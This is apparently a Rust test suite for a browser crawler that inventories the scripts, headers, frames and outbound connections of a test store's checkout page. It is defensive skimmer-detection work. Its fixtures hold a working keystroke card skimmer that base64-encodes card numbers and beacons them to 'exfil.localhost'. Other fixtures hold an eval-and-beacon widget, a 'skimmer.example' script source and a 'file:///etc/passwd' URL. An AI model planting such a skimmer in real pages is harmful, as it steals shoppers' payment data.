//! Crawls of a test store's checkout page in Debian's chromium (loopback only).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use bulwark_crawl::{crawl, Browser, CrawlError, CrawlRequest};
use bulwark_pagewatch::inventory::{ConnectionKind, ScriptSource};
use bulwark_testkit::Shop;

const APP_JS: &str = r#"
// The store's own script: it inserts the vendor widget at run time.
var s = document.createElement('script');
s.src = '/js/widget.js';
document.head.appendChild(s);
"#;

const WIDGET_JS: &str = r#"
// Injected at run time; unpacks code from a string and beacons elsewhere.
eval("window.__widget = 1 + 1;");
new Image().src = 'http://cdn-payments.localhost:PORT/pixel.gif?c=' + window.__widget;
"#;

/// The SRI value of a body (`sha384-` and base64).
fn sri(body: &str) -> String {
    use base64::Engine;
    let hex = bulwark_pagewatch::inventory::Digests::of(body.as_bytes()).sha384;
    let raw = hex::decode(hex).unwrap();
    format!(
        "sha384-{}",
        base64::engine::general_purpose::STANDARD.encode(raw)
    )
}

fn shop() -> Shop {
    let shop = Shop::start();
    let html = r#"<!doctype html><html><head><title>Checkout</title>
<script src="/js/app.js" integrity="SRI" crossorigin="anonymous"></script>
<script>window.checkoutReady = true;</script>
</head><body><form id="pay"><input name="cc_number"></form>
<iframe src="/payment-frame"></iframe></body></html>"#
        .replace("SRI", &sri(APP_JS));
    shop.put_html(
        "/checkout",
        &[
            (
                "Content-Security-Policy",
                "default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval'",
            ),
            ("Strict-Transport-Security", "max-age=31536000"),
            ("X-Frame-Options", "SAMEORIGIN"),
        ],
        &html,
    );
    shop.put_html("/payment-frame", &[], "<p>card fields</p>");
    shop.put_js("/js/app.js", APP_JS);
    shop.put_js(
        "/js/widget.js",
        &WIDGET_JS.replace("PORT", &shop.port.to_string()),
    );
    shop.put("/pixel.gif", "image/gif", &[], b"GIF89a");
    shop
}

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap()
}

#[test]
fn a_crawl_records_parsed_inline_injected_and_evald_scripts_headers_frames_and_hosts() {
    let shop = shop();
    let c = rt()
        .block_on(crawl(
            &Browser::default(),
            &CrawlRequest {
                url: shop.url("/checkout"),
                cookies: vec![],
            },
        ))
        .unwrap();
    assert_eq!(c.status, 200);
    let kinds: Vec<(String, Option<String>)> = c
        .scripts
        .iter()
        .map(|s| {
            let name = match &s.source {
                ScriptSource::Url(u) => u.clone(),
                other => other.kind().to_owned(),
            };
            (name, s.initiator.clone())
        })
        .collect();
    let app = shop.url("/js/app.js");
    let widget = shop.url("/js/widget.js");
    assert!(
        kinds.contains(&(app.clone(), Some("parser".into()))),
        "{kinds:?}"
    );
    // Inserted by app.js at run time: an HTTP client reading the HTML never sees it.
    assert!(
        kinds.contains(&(widget.clone(), Some(app.clone()))),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&("inline".into(), Some("parser".into()))),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&("eval".into(), Some(widget.clone()))),
        "{kinds:?}"
    );
    let app_script = c
        .scripts
        .iter()
        .find(|s| s.source == ScriptSource::Url(app.clone()))
        .unwrap();
    assert!(app_script.has_sri);
    assert_eq!(app_script.body, APP_JS.as_bytes());
    assert_eq!(
        app_script.digests,
        bulwark_pagewatch::inventory::Digests::of(APP_JS.as_bytes())
    );
    let w = c
        .scripts
        .iter()
        .find(|s| s.source == ScriptSource::Url(widget.clone()))
        .unwrap();
    assert!(!w.has_sri);

    assert_eq!(c.headers.hsts.as_deref(), Some("max-age=31536000"));
    assert_eq!(c.headers.x_frame_options.as_deref(), Some("SAMEORIGIN"));
    assert!(c.headers.csp.as_deref().unwrap().contains("'unsafe-eval'"));
    assert_eq!(c.headers.referrer_policy, None);
    assert_eq!(c.iframes, vec![shop.url("/payment-frame")]);

    let beacon = c
        .connections
        .iter()
        .find(|h| h.host == "cdn-payments.localhost")
        .unwrap();
    assert_eq!(beacon.kind, ConnectionKind::Image);
    assert_eq!(beacon.initiator.as_deref(), Some(widget.as_str()));
    let snapshot = String::from_utf8(c.snapshot).unwrap();
    assert!(
        snapshot.contains("src=\"/js/widget.js\""),
        "the snapshot is the DOM after scripts ran"
    );
    assert!(
        !String::from_utf8(c.document.unwrap())
            .unwrap()
            .contains("widget.js"),
        "the document is as served"
    );
}

#[test]
fn cookies_reach_the_page_and_a_failed_page_is_an_error_not_an_empty_inventory() {
    let shop = shop();
    shop.put_html(
        "/cart",
        &[],
        "<script>document.title = document.cookie;</script>",
    );
    let rt = rt();
    let c = rt
        .block_on(crawl(
            &Browser::default(),
            &CrawlRequest {
                url: shop.url("/cart"),
                cookies: vec![("session".into(), zeroize::Zeroizing::new("s3cr3t".into()))],
            },
        ))
        .unwrap();
    assert!(String::from_utf8(c.snapshot)
        .unwrap()
        .contains("<title>session=s3cr3t</title>"));

    let missing = rt.block_on(crawl(
        &Browser::default(),
        &CrawlRequest {
            url: shop.url("/nowhere"),
            cookies: vec![],
        },
    ));
    assert!(
        matches!(missing, Err(CrawlError::Status(404))),
        "{missing:?}"
    );

    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let refused = rt.block_on(crawl(
        &Browser::default(),
        &CrawlRequest {
            url: format!("http://127.0.0.1:{port}/checkout"),
            cookies: vec![],
        },
    ));
    assert!(matches!(refused, Err(CrawlError::Load(_))), "{refused:?}");

    let bad = rt.block_on(crawl(
        &Browser {
            executable: "/nonexistent/chromium".into(),
            ..Browser::default()
        },
        &CrawlRequest {
            url: shop.url("/checkout"),
            cookies: vec![],
        },
    ));
    assert!(matches!(bad, Err(CrawlError::Launch { .. })), "{bad:?}");
    let file = rt.block_on(crawl(
        &Browser::default(),
        &CrawlRequest {
            url: "file:///etc/passwd".into(),
            cookies: vec![],
        },
    ));
    assert!(matches!(file, Err(CrawlError::BadUrl)));
}

#[test]
fn loopback_only_crawls_record_the_attempt_to_reach_another_host_but_never_load_from_it() {
    let shop = Shop::start();
    shop.put_html(
        "/checkout",
        &[],
        "<script src=\"http://skimmer.example/x.js\"></script><script>var ok = 1;</script>",
    );
    let c = rt()
        .block_on(crawl(
            &Browser {
                loopback_only: true,
                ..Browser::default()
            },
            &CrawlRequest {
                url: shop.url("/checkout"),
                cookies: vec![],
            },
        ))
        .unwrap();
    assert!(c
        .connections
        .iter()
        .any(|h| h.host == "skimmer.example" && h.kind == ConnectionKind::Script));
    assert!(
        !c.scripts
            .iter()
            .any(|s| matches!(&s.source, ScriptSource::Url(u) if u.contains("skimmer.example"))),
        "{:?}",
        c.scripts
    );
    assert_eq!(c.scripts.len(), 1, "the inline script only");
}

#[test]
fn typing_test_card_data_makes_a_keystroke_skimmer_show_its_exfiltration() {
    let shop = Shop::start();
    let port = shop.port;
    shop.put_html(
        "/checkout",
        &[],
        r#"<form><input name="cc_number" aria-label="Card number"><input name="email"></form>
<script>
document.querySelector('input[name=cc_number]').addEventListener('blur', function (e) {
  if (e.target.value.length >= 15) { new Image().src = 'http://exfil.localhost:PORT/k.gif?v=' + btoa(e.target.value); }
});
</script>"#
            .replace("PORT", &port.to_string())
            .as_str(),
    );
    let rt = rt();
    let url = shop.url("/checkout");
    let looked = rt
        .block_on(crawl(
            &Browser {
                interact: false,
                ..Browser::default()
            },
            &CrawlRequest {
                url: url.clone(),
                cookies: vec![],
            },
        ))
        .unwrap();
    assert!(
        !looked
            .connections
            .iter()
            .any(|h| h.host == "exfil.localhost"),
        "only looking, the skimmer stays quiet"
    );
    let typed = rt
        .block_on(crawl(
            &Browser::default(),
            &CrawlRequest {
                url,
                cookies: vec![],
            },
        ))
        .unwrap();
    let exfil = typed
        .connections
        .iter()
        .find(|h| h.host == "exfil.localhost")
        .expect("typing the test card into the field made it send");
    assert_eq!(exfil.kind, ConnectionKind::Image);
}
